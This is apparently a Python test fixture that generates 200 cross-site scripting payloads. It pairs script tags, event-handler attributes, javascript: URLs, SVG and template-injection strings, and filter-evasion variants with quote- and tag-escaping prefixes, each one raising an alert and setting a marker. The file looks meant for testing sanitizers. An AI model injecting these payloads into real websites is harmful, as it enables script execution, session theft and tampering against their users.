"""Two hundred ways to have a script run where text should stand: each says so by a marker and by a dialog."""

from itertools import product
from typing import Final

RUN: Final = "window.ran=1;alert(1)"
_TAGS: Final = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script>",
    "<script\n>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    "<img src=x onerror=\"{run}\">",
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x ONERROR={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text x=20 y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<body onload={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1;parent.alert(1)</script>'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<form action='javascript:{run}'><button autofocus>x</button></form>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='jav&#x09;ascript:{run}'>x</a>",
    "<style>@import 'javascript:{run}';</style>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<template><script>{run}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<x contenteditable onblur={run} autofocus tabindex=1>x</x>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "{{% print(1) %}}{run}",
    "javascript:{run}",
)  # fmt: skip
_BEFORE: Final = ("", '"', "'", '">', "</textarea></title></select>")
"""How what stands around the text might be left: as text, within either quotes, out of a tag, out of an element."""

PAYLOADS: Final = tuple(before + tag.format(run=RUN) for before, tag in product(_BEFORE, _TAGS))
